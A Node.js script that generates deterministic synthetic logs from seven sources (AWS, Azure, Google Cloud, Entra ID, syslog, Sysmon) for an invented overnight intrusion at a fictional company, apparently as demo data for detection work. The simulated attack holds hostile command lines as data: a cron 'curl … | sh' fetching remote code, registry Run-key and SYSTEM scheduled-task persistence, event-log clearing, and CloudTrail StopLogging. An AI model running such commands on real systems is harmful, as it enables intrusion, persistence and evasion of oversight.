#!/usr/bin/env node
// Writes demo/Samples: the logs of one made-up night at Contoso, as seven sources tell it. The same run gives the same
// bytes, so that a change of a sample is a change of this file. `--check` only compares and fails when a file is stale.
//
// The night, in UTC, 10 March 2026: an SSH password is guessed (00:20–00:58) and a line put into cron; the address
// that came next sprays the directory (01:00–02:30), uses a key that it found for AWS (01:12–03:10), and signs in as
// Leo, whose password it guessed, to start machines in Azure (02:41). Around it a company does what companies do.
// Addresses are those set aside for documentation (RFC 5737); accounts, ids and names belong to nobody.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const folder = join(dirname(fileURLToPath(import.meta.url)), "..", "demo", "Samples");

const DAY = Date.UTC(2026, 2, 10);
const INTRUDER = "203.0.113.77";
const GUESSER = "203.0.113.90";
const OFFICE = ["198.51.100.7", "198.51.100.8", "198.51.100.9"];
const RUNNER = "198.51.100.20";

/** Random numbers out of a seed (mulberry32): each source has its own, so that one can change without the others. */
function dice(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const upTo = (n) => Math.floor(next() * n);
  const hex = (n) => Array.from({ length: n }, () => upTo(16).toString(16)).join("");
  return {
    upTo, hex,
    one: (list) => list[upTo(list.length)],
    chance: (p) => next() < p,
    guid: () => `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`,
    /** A time of the day between two hours, in milliseconds. */
    between: (from, to) => Math.round((from + next() * (to - from)) * 3_600_000),
  };
}

/** `01:12`, `01:12:30` → milliseconds of the day. */
function at(clock) {
  const [h, m, s = 0] = clock.split(":").map(Number);
  return ((h * 60 + m) * 60 + s) * 1000;
}

const iso = (ms) => new Date(DAY + ms).toISOString();
const seconds = (ms) => iso(ms).replace(/\.\d+Z$/, "Z");
/** With the seven digits that a workspace writes. */
const ticks = (ms) => iso(ms).replace(/Z$/, "0000Z");
const byTime = (list) => list.sort((a, b) => a.ms - b.ms);

const cell = (value) => {
  const text = value === undefined || value === null ? "" : String(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll("\"", "\"\"")}"` : text;
};
const csv = (header, rows) => [header, ...rows].map((row) => row.map(cell).join(",")).join("\n") + "\n";
const jsonLines = (values) => values.map((v) => JSON.stringify(v)).join("\n") + "\n";

// ── AWS ──────────────────────────────────────────────────────────────────────────────────────────────────────────

function cloudTrail() {
  const d = dice(1578);
  const account = "444455556666";
  const keys = new Map();
  const user = (userName) => {
    const known = keys.get(userName)
      ?? { principalId: `AIDA${d.hex(17).toUpperCase()}`, accessKeyId: `AKIA${d.hex(16).toUpperCase()}` };
    keys.set(userName, known);
    return { type: "IAMUser", principalId: known.principalId, arn: `arn:aws:iam::${account}:user/${userName}`,
      accountId: account, accessKeyId: known.accessKeyId, userName };
  };
  const role = (roleName, session, ms) => ({
    type: "AssumedRole", principalId: `AROA${"0".repeat(12)}LAB1:${session}`,
    arn: `arn:aws:sts::${account}:assumed-role/${roleName}/${session}`, accountId: account,
    accessKeyId: `ASIA${d.hex(16).toUpperCase()}`,
    sessionContext: {
      sessionIssuer: { type: "Role", principalId: `AROA${"0".repeat(12)}LAB1`, accountId: account,
        arn: `arn:aws:iam::${account}:role/${roleName}`, userName: roleName },
      attributes: { creationDate: seconds(ms - 240_000), mfaAuthenticated: "false" },
    },
  });
  const events = [];
  const say = (ms, userIdentity, [source, eventName], sourceIPAddress, more = {}) => {
    const {
      region = "eu-west-1", agent = "aws-cli/2.15.30 md/Botocore#2.4.5", error, request = null, response = null, ...rest
    } = more;
    const data = eventName === "GetObject";
    events.push({ ms, record: {
      eventVersion: "1.10", userIdentity, eventTime: seconds(ms), eventSource: `${source}.amazonaws.com`, eventName,
      awsRegion: region, sourceIPAddress, userAgent: agent,
      ...(error === undefined ? {} : { errorCode: error[0], errorMessage: error[1] }),
      requestParameters: request, responseElements: error === undefined ? response : null,
      requestID: d.guid(), eventID: d.guid(), readOnly: /^(Get|List|Describe)/.test(eventName),
      eventType: eventName === "ConsoleLogin" ? "AwsConsoleSignIn" : "AwsApiCall",
      managementEvent: !data, recipientAccountId: account, eventCategory: data ? "Data" : "Management", ...rest,
    } });
  };
  const run = (instanceType, count, region = "eu-west-1") => {
    const ids = Array.from({ length: count }, () => `i-0${d.hex(16)}`);
    return {
      region,
      request: {
        instancesSet: { items: [{ imageId: `ami-0${d.hex(16)}`, minCount: count, maxCount: count }] }, instanceType,
      },
      response: { reservationId: `r-0${d.hex(16)}`, ownerId: account, instancesSet: {
        items: ids.map((instanceId, i) => ({
          instanceId, amiLaunchIndex: i, instanceState: { code: 0, name: "pending" }, instanceType,
          placement: { availabilityZone: `${region}a` } })) } },
    };
  };
  const RUN = ["ec2", "RunInstances"];
  const denied = (action) => ["Client.UnauthorizedOperation",
    `You are not authorized to perform this operation: ${action}.`];

  // The company's day.
  for (let i = 0; i < 36; i++) {
    const ms = d.between(0, 24);
    const read = d.one(["DescribeInstances", "DescribeImages", "DescribeSubnets"]);
    say(ms, role("build-pipeline", `run-${4100 + i}`, ms), ["ec2", read],
      RUNNER, { agent: "terraform/1.9.8" });
  }
  for (let i = 0; i < 26; i++) {
    say(d.between(0, 6), user("svc-backup"),
      d.one([["s3", "GetObject"], ["ec2", "DescribeVolumes"], ["ec2", "DescribeSnapshots"]]),
      "198.51.100.31", { agent: "Boto3/1.34.60", request: null });
  }
  for (let i = 0; i < 8; i++) {
    say(at("03:30") + i * 41_000, user("svc-backup"), ["ec2", "CreateSnapshot"], "198.51.100.31", {
      agent: "Boto3/1.34.60", request: { volumeId: `vol-0${d.hex(16)}`, description: "nightly" },
      response: { snapshotId: `snap-0${d.hex(16)}`, status: "pending" } });
  }
  for (let i = 0; i < 18; i++) {
    say(d.between(7, 17), user(d.one(["maria.ops", "jonas.ops"])),
      ["ec2", d.one(["DescribeInstances", "DescribeSecurityGroups", "DescribeRegions"])],
      d.one(OFFICE), { agent: "console.amazonaws.com" });
  }
  for (const [clock, type] of [["06:10", "c6i.large"], ["11:42", "c6i.large"], ["16:05", "c6i.xlarge"]]) {
    say(at(clock), role("build-pipeline", `run-${clock.replace(":", "")}`, at(clock)), RUN, RUNNER,
      { agent: "terraform/1.9.8", ...run(type, 1, "eu-central-1") });
    say(at(clock) + 2_400_000, role("build-pipeline", `run-${clock.replace(":", "")}`, at(clock)),
      ["ec2", "TerminateInstances"],
      RUNNER, { agent: "terraform/1.9.8", region: "eu-central-1" });
  }
  const LOGIN = ["signin", "ConsoleLogin"];
  const login = (clock, userName, MFAUsed, ip, ok = true) => say(at(clock), user(userName), LOGIN, ip, {
    region: "us-east-1", agent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/136.0",
    response: { ConsoleLogin: ok ? "Success" : "Failure" },
    additionalEventData: { LoginTo: "https://console.aws.amazon.com/console/home", MobileVersion: "No", MFAUsed } });
  login("07:02", "maria.ops", "Yes", OFFICE[0]);
  login("07:58", "jonas.ops", "Yes", OFFICE[1], false);
  login("07:59", "jonas.ops", "Yes", OFFICE[1]);
  say(at("09:15"), user("maria.ops"), RUN, OFFICE[0], { ...run("t3.large", 1),
    error: ["Client.DryRunOperation", "Request would have succeeded, but DryRun flag is set."] });
  say(at("09:16"), user("maria.ops"), RUN, OFFICE[0], run("t3.large", 1));

  // The intruder, with the key of svc-backup.
  const taken = user("svc-backup");
  const agent = "aws-cli/2.22.1 md/Botocore#2.4.5 os/linux";
  const act = (clock, call, more = {}) => say(at(clock), taken, call, INTRUDER, { agent, ...more });
  act("01:12", ["sts", "GetCallerIdentity"], { region: "us-east-1" });
  act("01:13", ["s3", "ListBuckets"], { error: ["AccessDenied", "Access Denied"] });
  act("01:14", ["ec2", "DescribeRegions"]);
  act("01:14:20", ["ec2", "DescribeInstances"]);
  act("01:15", ["ec2", "DescribeVolumes"]);
  act("01:22", ["ec2", "CreateSnapshot"], { request: { volumeId: `vol-0${d.hex(16)}`, description: "" },
    response: { snapshotId: `snap-0${d.hex(16)}`, status: "pending" } });
  act("01:31", RUN, { ...run("t3.medium", 1, "us-east-1"), error: denied("ec2:RunInstances") });
  act("01:31:40", RUN, { ...run("t3.medium", 1, "us-west-2"), error: denied("ec2:RunInstances") });
  act("01:34", RUN, run("t3.medium", 1));
  act("01:41", ["cloudtrail", "StopLogging"], { request: { name: "lab-trail" } });
  act("01:47", ["iam", "CreateAccessKey"], { region: "us-east-1", request: { userName: "maria.ops" },
    response: { accessKey: { userName: "maria.ops", status: "Active", accessKeyId: `AKIA${d.hex(16).toUpperCase()}`,
      createDate: "Mar 10, 2026 1:47:00 AM" } } });
  act("02:05", RUN, run("g4dn.xlarge", 4, "ap-southeast-2"));
  act("02:30", ["s3", "PutBucketPolicy"], { error: ["AccessDenied", "Access Denied"],
    request: { bucketName: "contoso-exports" } });
  act("03:10", ["ec2", "TerminateInstances"]);
  return byTime(events).map((e) => e.record);
}

const cloudTrailFile = (records) => `{"Records":[\n${records.map((r) => JSON.stringify(r)).join(",\n")}\n]}\n`;

function cloudTrailRows(records) {
  const text = (value) => (value === null || value === undefined ? "" : JSON.stringify(value));
  const columns = [
    ["TimeGenerated", (r) => r.eventTime], ["AwsEventId", (r) => r.eventID], ["EventVersion", (r) => r.eventVersion],
    ["EventSource", (r) => r.eventSource], ["EventTypeName", (r) => r.eventType], ["EventName", (r) => r.eventName],
    ["UserIdentityType", (r) => r.userIdentity.type], ["UserIdentityPrincipalid", (r) => r.userIdentity.principalId],
    ["UserIdentityArn", (r) => r.userIdentity.arn], ["UserIdentityAccountId", (r) => r.userIdentity.accountId],
    ["UserIdentityAccessKeyId", (r) => r.userIdentity.accessKeyId],
    ["UserIdentityUserName", (r) => r.userIdentity.userName],
    ["SessionMfaAuthenticated", (r) => r.userIdentity.sessionContext?.attributes.mfaAuthenticated],
    ["SessionIssuerArn", (r) => r.userIdentity.sessionContext?.sessionIssuer.arn],
    ["SessionIssuerUserName", (r) => r.userIdentity.sessionContext?.sessionIssuer.userName],
    ["AWSRegion", (r) => r.awsRegion], ["SourceIpAddress", (r) => r.sourceIPAddress],
    ["UserAgent", (r) => r.userAgent],
    ["ErrorCode", (r) => r.errorCode], ["ErrorMessage", (r) => r.errorMessage],
    ["RequestParameters", (r) => text(r.requestParameters)], ["ResponseElements", (r) => text(r.responseElements)],
    ["AdditionalEventData", (r) => text(r.additionalEventData)], ["AwsRequestId_", (r) => r.requestID],
    ["ReadOnly", (r) => r.readOnly], ["RecipientAccountId", (r) => r.recipientAccountId],
    ["ManagementEvent", (r) => r.managementEvent], ["Category", (r) => r.eventCategory],
    ["Type", () => "AWSCloudTrail"],
  ];
  return csv(columns.map(([name]) => name), records.map((r) => columns.map(([, of]) => of(r))));
}

// ── Azure ────────────────────────────────────────────────────────────────────────────────────────────────────────

const SUBSCRIPTION = "7a1e5c20-0000-4000-8000-00000000c0de";

function azureActivity() {
  const d = dice(578002);
  const deploy = { claims: { appid: "2f6d1b3a-0000-4000-8000-0000000000d1" }, ip: RUNNER };
  const person = (name, ip) => ({ claims: { name: `${name}@contoso.example` }, ip });
  const events = [];
  const write = (ms, who, group, [provider, type, name], verb, end, correlationId, fraction) => {
    const resourceId = `/subscriptions/${SUBSCRIPTION}/resourceGroups/${group}/providers/${provider}/${type}/${name}`;
    const [resultType, resultSignature] = end;
    const failed = resultType === "Failure";
    events.push({ ms, record: {
      time: iso(ms).replace(/Z$/, `${fraction}Z`), resourceId,
      operationName: `${provider}/${type}/${verb}`.toUpperCase(),
      category: verb.endsWith("action") ? "Action" : verb === "delete" ? "Delete" : "Write",
      resultType, resultSignature,
      durationMs: "0", callerIpAddress: who.ip, correlationId,
      identity: { authorization: { scope: resourceId, action: `${provider}/${type}/${verb}` }, claims: who.claims },
      level: failed ? "Error" : "Information",
      properties: { eventCategory: "Administrative", hierarchy: SUBSCRIPTION,
        eventProperties: { entity: resourceId, message: `${provider}/${type}/${verb}`, hierarchy: SUBSCRIPTION,
          ...(failed ? { statusCode: "Conflict", statusMessage: "QuotaExceeded" } : {}) } },
    } });
  };
  /** One operation is told two or three times: begun, perhaps accepted, and how it ended. */
  const act = (ms, who, group, resource, verb, outcome = "Success") => {
    const id = d.guid();
    const digits = () => String(1000 + d.upTo(9000));
    write(ms, who, group, resource, verb, ["Start", "Started."], id, digits());
    if (outcome === "Failure") {
      write(ms + 2_100, who, group, resource, verb, ["Failure", "Failed.Conflict"], id, digits());
      return;
    }
    write(ms + 1_800, who, group, resource, verb, ["Accept", "Accepted.Accepted"], id, digits());
    write(ms + 22_000 + d.upTo(30_000), who, group, resource, verb,
      ["Success", verb === "write" ? "Succeeded.Created" : "Succeeded."], id, digits());
  };
  const COMPUTE = "Microsoft.Compute";
  for (let i = 0; i < 12; i++) {
    act(d.between(5, 18), deploy, "rg-web", ["Microsoft.Web", "sites", d.one(["shop-api", "shop-web", "status"])],
      d.one(["write", "restart/action"]));
  }
  for (let i = 0; i < 4; i++) {
    act(d.between(8, 17), person("ana", OFFICE[2]), "rg-web",
      ["Microsoft.Network", "networkSecurityGroups", "nsg-web"], "write");
  }
  act(at("06:20"), deploy, "rg-web", [COMPUTE, "disks", "vm-web-03-os"], "write");
  act(at("06:21"), deploy, "rg-web", [COMPUTE, "virtualMachines", "vm-web-03"], "write");
  act(at("06:24"), deploy, "rg-web", [COMPUTE, "virtualMachines/extensions", "vm-web-03/monitor"], "write");
  act(at("18:00"), deploy, "rg-web", [COMPUTE, "virtualMachines", "vm-web-02"], "deallocate/action");
  act(at("18:05"), deploy, "rg-web", [COMPUTE, "virtualMachines", "vm-web-01"], "delete");
  const leo = person("leo", INTRUDER);
  act(at("02:38"), leo, "rg-lab", [COMPUTE, "virtualMachines", "vm-render-01"], "write", "Failure");
  act(at("02:39"), leo, "rg-lab", [COMPUTE, "virtualMachines", "vm-render-01"], "write", "Failure");
  act(at("02:40"), leo, "rg-lab", ["Microsoft.Network", "publicIPAddresses", "vm-render-01-ip"], "write");
  act(at("02:41"), leo, "rg-lab", [COMPUTE, "virtualMachines", "vm-render-01"], "write");
  act(at("02:44"), leo, "rg-lab", [COMPUTE, "virtualMachines", "vm-render-02"], "write");
  act(at("02:52"), leo, "rg-lab", ["Microsoft.Network", "networkSecurityGroups", "nsg-lab"], "write");
  act(at("02:58"), leo, "rg-web", [COMPUTE, "snapshots", "db-copy"], "write", "Failure");
  return byTime(events).map((e) => e.record);
}

function azureActivityRows(records) {
  const segment = (id, name) => new RegExp(`/${name}/([^/]+)`, "i").exec(id)?.[1] ?? "";
  const header = ["TimeGenerated [UTC]", "CallerIpAddress", "CategoryValue", "CorrelationId", "Level",
    "OperationNameValue", "Caller", "ResourceGroup", "ResourceProviderValue", "ActivityStatusValue",
    "ActivitySubstatusValue", "SubscriptionId", "OperationName",
    "ActivityStatus", "Resource", "Type", "_ResourceId", "Properties"];
  return csv(header, records.map((r) => [
    r.time, r.callerIpAddress, r.properties.eventCategory, r.correlationId, r.level, r.operationName,
    r.identity.claims.name ?? r.identity.claims.appid, segment(r.resourceId, "resourceGroups").toUpperCase(),
    segment(r.resourceId, "providers").toUpperCase(), r.resultType,
    r.resultSignature.slice(r.resultSignature.indexOf(".") + 1),
    SUBSCRIPTION, "", "", r.resourceId.slice(r.resourceId.lastIndexOf("/") + 1), "AzureActivity",
    r.resourceId.toLowerCase(),
    JSON.stringify(r.properties.eventProperties)]));
}

// ── Google Cloud ─────────────────────────────────────────────────────────────────────────────────────────────────

function googleAudit() {
  const d = dice(314);
  const project = "contoso-lab-314";
  const deploy = [`deploy@${project}.iam.gserviceaccount.com`, "198.51.100.44",
    "google-api-go-client/0.5 Terraform/1.9.8"];
  const ines = ["ines@contoso.example", OFFICE[1], "google-cloud-sdk gcloud/512.0.0"];
  const events = [];
  const entry = (ms, [principalEmail, callerIp, callerSuppliedUserAgent], methodName, permission, name, zone,
    more = {}) => {
    const { status, last, operation } = more;
    const resourceName = `projects/${project}/zones/${zone}/instances/${name}`;
    events.push({ ms, record: {
      protoPayload: {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog", status: status ?? {},
        authenticationInfo: { principalEmail }, requestMetadata: { callerIp, callerSuppliedUserAgent },
        serviceName: "compute.googleapis.com", methodName,
        ...(last ? {} : { authorizationInfo: [{ permission, granted: status?.code !== 7, resource: resourceName }] }),
        resourceName,
        ...(last ? { request: { "@type": `type.googleapis.com/${methodName.replace(/^(v1|beta)\./, "")}` } } : {}),
      },
      insertId: `-${d.hex(11)}`,
      resource: { type: "gce_instance", labels: { project_id: project,
        instance_id: String(4_000_000_000_000_000_000n + BigInt(d.upTo(2 ** 31))), zone } },
      timestamp: `${iso(ms).slice(0, -1)}${d.upTo(900) + 100}Z`, severity: status?.code ? "ERROR" : "NOTICE",
      logName: `projects/${project}/logs/cloudaudit.googleapis.com%2Factivity`,
      ...(operation === undefined ? {} : { operation:
        { id: operation, producer: "compute.googleapis.com", ...(last ? { last: true } : { first: true }) } }),
      receiveTimestamp: `${iso(ms + 900).slice(0, -1)}${d.upTo(900_000) + 100_000}Z`,
    } });
  };
  /** A long operation is written when it begins and when it has ended. */
  const long = (ms, who, method, permission, name, zone) => {
    const operation = `operation-${1773100000000 + d.upTo(86400000)}-${d.hex(12)}`;
    entry(ms, who, method, permission, name, zone, { operation });
    entry(ms + 14_000 + d.upTo(9_000), who, method, permission, name, zone, { operation, last: true });
  };
  for (let i = 0; i < 9; i++) {
    long(d.between(5, 19), deploy, d.one(["v1.compute.instances.setMetadata", "v1.compute.instances.setLabels",
      "v1.compute.instances.stop"]),
      "compute.instances.update", `web-${1 + d.upTo(4)}`, "europe-west1-b");
  }
  long(at("07:30"), deploy, "v1.compute.instances.insert", "compute.instances.create", "web-5", "europe-west1-b");
  long(at("10:12"), ines, "beta.compute.instances.insert", "compute.instances.create", "ines-test", "europe-west4-a");
  long(at("15:40"), ines, "v1.compute.instances.delete", "compute.instances.delete", "ines-test", "europe-west4-a");
  entry(at("10:09"), ines, "beta.compute.instances.insert", "compute.instances.create", "ines-test", "us-central1-a",
    { status: { code: 7, message: "PERMISSION_DENIED" } });
  entry(at("10:10"), ines, "beta.compute.instances.insert", "compute.instances.create", "ines-test", "europe-west4-a",
    { status: { code: 8, message: "QUOTA_EXCEEDED" } });
  for (let i = 0; i < 6; i++) {
    entry(d.between(0, 24), deploy, "v1.compute.disks.createSnapshot", "compute.disks.createSnapshot",
      `web-${1 + d.upTo(4)}`, "europe-west1-b");
  }
  return byTime(events).map((e) => e.record);
}

// ── Entra ID ─────────────────────────────────────────────────────────────────────────────────────────────────────

const REASONS = new Map([
  ["0", ""], ["50126", "Invalid username or password."], ["50053", "Account is locked."],
  ["50074", "Strong authentication is required."],
]);

function signIns() {
  const d = dice(50126);
  const people = ["ana", "ben", "carla", "dev", "emil", "fay", "gus", "hana", "ines", "jonas", "kim", "leo",
    "maria", "nils", "olga",
    "pia", "quinn", "rosa", "sven", "tara", "udo", "vera", "wim", "xenia", "yan", "zoe"];
  const rows = [];
  const say = (ms, name, ResultType, ip, country, more = {}) => rows.push({ ms, row: {
    TimeGenerated: ticks(ms), OperationName: "Sign-in activity", Category: "SignInLogs", ResultType,
    ResultDescription: REASONS.get(ResultType),
    CorrelationId: d.guid(), Identity: name, Location: country,
    AppDisplayName: more.app ?? "Office 365 Exchange Online",
    AuthenticationRequirement: more.second ?? "multiFactorAuthentication", ClientAppUsed: more.client ?? "Browser",
    ConditionalAccessStatus: ResultType === "0" ? "success" : "notApplied", IPAddress: ip, IsInteractive: true,
    UserAgent: more.agent ?? "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/134.0",
    UserPrincipalName: `${name}@contoso.example`, UserType: "Member", Type: "SigninLogs" } });
  for (let i = 0; i < 96; i++) {
    say(d.between(6, 19), d.one(people), d.chance(0.06) ? "50126" : d.chance(0.05) ? "50074" : "0", d.one(OFFICE), "DE",
      { app: d.one(["Office 365 Exchange Online", "Microsoft Teams", "Azure Portal"]) });
  }
  const quiet = { client: "Authenticated SMTP", second: "singleFactorAuthentication",
    agent: "python-requests/2.32.3" };
  people.forEach((name, i) => say(at("01:00") + i * 205_000 + d.upTo(40_000), name, i % 9 === 8 ? "50053" : "50126",
    INTRUDER, "NL", quiet));
  say(at("02:36"), "leo", "0", INTRUDER, "NL", { second: "singleFactorAuthentication", app: "Azure Portal",
    agent: quiet.agent });
  const columns = Object.keys(rows[0].row);
  return csv(columns, byTime(rows).map(({ row }) => columns.map((c) => row[c])));
}

// ── Linux ────────────────────────────────────────────────────────────────────────────────────────────────────────

function syslog() {
  const d = dice(22);
  const rows = [];
  let pid = 31_000;
  const say = (ms, Computer, Facility, SeverityLevel, ProcessName, SyslogMessage) => rows.push({ ms, row: {
    TimeGenerated: iso(ms), Computer, EventTime: seconds(ms), Facility, HostName: Computer, SeverityLevel,
    SyslogMessage, ProcessID: pid++, HostIP: Computer === "jump-01" ? "192.0.2.21" : "192.0.2.22", ProcessName,
    CollectorHostName: "syslog-01", Type: "Syslog" } });
  const sshd = (ms, text, level = "info") => say(ms, "jump-01", "auth", level, "sshd", text);
  for (let i = 0; i < 44; i++) {
    const name = d.one(["root", "backup", "backup", "backup", "invalid user admin", "invalid user oracle",
      "invalid user test"]);
    sshd(at("00:20") + i * 50_000 + d.upTo(20_000),
      `Failed password for ${name} from ${GUESSER} port ${40_000 + d.upTo(20_000)} ssh2`);
  }
  sshd(at("00:58:12"), `Accepted password for backup from ${GUESSER} port 51514 ssh2`);
  sshd(at("00:58:12") + 300, "pam_unix(sshd:session): session opened for user backup(uid=1007) by (uid=0)");
  say(at("01:02"), "jump-01", "cron", "info", "crontab", "(backup) REPLACE (backup)");
  for (let i = 0; i < 6; i++) {
    say(at("01:05:01") + i * 300_000, "jump-01", "cron", "info", "CRON",
      "(backup) CMD (curl -s http://192.0.2.10/u.sh | sh)");
  }
  for (let i = 0; i < 24; i++) {
    say(i * 3_600_000 + 17 * 60_000 + 1_000, "web-01", "cron", "info", "CRON",
      "(root) CMD (cd / && run-parts --report /etc/cron.hourly)");
  }
  for (let i = 0; i < 10; i++) {
    const [name, ip] = d.one([["maria", OFFICE[0]], ["jonas", OFFICE[1]]]);
    const ms = d.between(7, 17);
    if (d.chance(0.3)) sshd(ms - 9_000, `Failed password for ${name} from ${ip} port ${50_000 + d.upTo(9_000)} ssh2`);
    const port = 50_000 + d.upTo(9_000);
    sshd(ms, `Accepted publickey for ${name} from ${ip} port ${port} ssh2: ED25519 SHA256:${d.hex(22)}`);
    say(ms + 40_000, "jump-01", "authpriv", "notice", "sudo",
      `${name} : TTY=pts/0 ; PWD=/home/${name} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`);
  }
  for (let i = 0; i < 7; i++) {
    const name = d.one(["ubuntu", "pi", "git"]);
    sshd(d.between(2, 23), `Failed password for invalid user ${name} from 192.0.2.${100 + d.upTo(90)} port 40022 ssh2`);
  }
  const columns = Object.keys(rows[0].row);
  return csv(columns, byTime(rows).map(({ row }) => columns.map((c) => row[c])));
}

// ── Windows ──────────────────────────────────────────────────────────────────────────────────────────────────────

/** Processes, connections and files of three machines, as Sysmon tells them and a forwarder flattens them. */
function windows() {
  const d = dice(17);
  const rows = [];
  let record = 480_211;
  const say = (ms, Computer, EventID, more) => rows.push({ ms, row: {
    UtcTime: iso(ms).replace("T", " ").replace("Z", ""), Channel: "Microsoft-Windows-Sysmon/Operational", EventID, Computer, ...more } });
  const system = "C:\\Windows\\System32\\";
  const start = (ms, computer, user, image, line, parent = "C:\\Windows\\explorer.exe") => say(ms, computer, 1, {
    User: `CONTOSO\\${user}`, ProcessId: 2000 + d.upTo(9000) * 4, Image: image, OriginalFileName: image.slice(image.lastIndexOf("\\") + 1),
    CommandLine: line, ParentImage: parent, IntegrityLevel: "Medium" });
  const people = [["pc-11", "ana"], ["pc-17", "leo"], ["srv-files", "svc-backup"]];
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
  for (let i = 0; i < 90; i++) {
    const [computer, user] = d.one(people);
    const ms = d.between(7, 18);
    const [image, line, parent] = d.one([
      [`${office}OUTLOOK.EXE`, "OUTLOOK.EXE /recycle"],
      [`${office}WINWORD.EXE`, "WINWORD.EXE /n \"C:\\Users\\Public\\Documents\\rota.docx\""],
      ["C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe -osint -url https://intranet.contoso.example/"],
      [`${system}conhost.exe`, "conhost.exe 0xffffffff -ForceV1", `${system}cmd.exe`],
      [`${system}svchost.exe`, "svchost.exe -k netsvcs -p -s Schedule", `${system}services.exe`],
      [`${system}schtasks.exe`, "schtasks /query /fo csv", `${system}cmd.exe`],
      [`${system}reg.exe`, "reg query HKLM\\SOFTWARE\\Contoso /v Version", `${system}cmd.exe`],
      [`${system}wevtutil.exe`, "wevtutil el", `${system}cmd.exe`],
    ]);
    start(ms, computer, user, image, line, parent);
    if (d.chance(0.4)) {
      say(ms + 900 + d.upTo(4000), computer, 3, { User: `CONTOSO\\${user}`, Image: image, Protocol: "tcp", SourceIp: `192.0.2.${30 + d.upTo(9)}`,
        DestinationIp: `198.51.100.${10 + d.upTo(30)}`, DestinationPort: 443 });
    }
    if (d.chance(0.2)) {
      say(ms + 2_000 + d.upTo(4000), computer, 11, { Image: image, TargetFilename: `C:\\Users\\${user}\\AppData\\Local\\Temp\\${d.hex(8)}.tmp` });
    }
  }
  // A vendor's own task, and a log-on script that nobody told the rules of.
  start(at("06:30"), "pc-11", "ana", `${system}schtasks.exe`,
    "schtasks /create /tn ContosoUpdate /sc daily /tr C:\\Users\\Public\\Contoso\\update.exe", "C:\\Program Files\\Contoso\\setup.exe");
  start(at("08:02:10"), "pc-11", "ana", `${system}reg.exe`,
    "reg add HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Rota /d \\\\srv-files\\apps\\rota.exe /f", `${system}wscript.exe`);
  // The key of svc-backup was good for more than the cloud.
  const shell = (clock, line) => start(at(clock), "srv-files", "svc-backup", `${system}${line.split(" ")[0]}.exe`, line, `${system}cmd.exe`);
  shell("01:16:05", "whoami /all");
  shell("01:17:40", "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d C:\\Users\\Public\\sync.exe /f");
  shell("01:19:02", "schtasks /create /ru SYSTEM /sc minute /mo 5 /tn Sync /tr C:\\Users\\Public\\sync.cmd");
  say(at("01:19:30"), "srv-files", 11, { Image: `${system}cmd.exe`, TargetFilename: "C:\\Users\\Public\\sync.cmd" });
  shell("01:44:51", "wevtutil cl Security");
  shell("01:44:55", "wevtutil cl Microsoft-Windows-TaskScheduler/Operational");
  return jsonLines(byTime(rows).map(({ row }) => ({ ...row, EventRecordID: record++ })));
}

// ── Files ────────────────────────────────────────────────────────────────────────────────────────────────────────

const trail = cloudTrail();
const activity = azureActivity();
const files = new Map([
  ["CloudTrail raw.json", cloudTrailFile(trail)],
  ["AWSCloudTrail ingested.csv", cloudTrailRows(trail)],
  ["Azure Activity raw.jsonl", jsonLines(activity)],
  ["AzureActivity ingested.csv", azureActivityRows(activity)],
  ["Google Cloud audit raw.jsonl", jsonLines(googleAudit())],
  ["SigninLogs ingested.csv", signIns()],
  ["Syslog ingested.csv", syslog()],
  ["Windows events.jsonl", windows()],
]);

if (process.argv.includes("--check")) {
  const stale = [...files].filter(([name, text]) => readFileSync(join(folder, name), "utf8") !== text)
    .map(([name]) => name);
  if (stale.length > 0) {
    process.stderr.write(`Stale in demo/Samples: ${stale.join(", ")}. Run \`node scripts/demo-samples.mjs\`.\n`);
    process.exitCode = 1;
  }
} else {
  mkdirSync(folder, { recursive: true });
  for (const [name, text] of files) writeFileSync(join(folder, name), text);
  process.stdout.write(`${files.size} files of samples written.\n`);
}
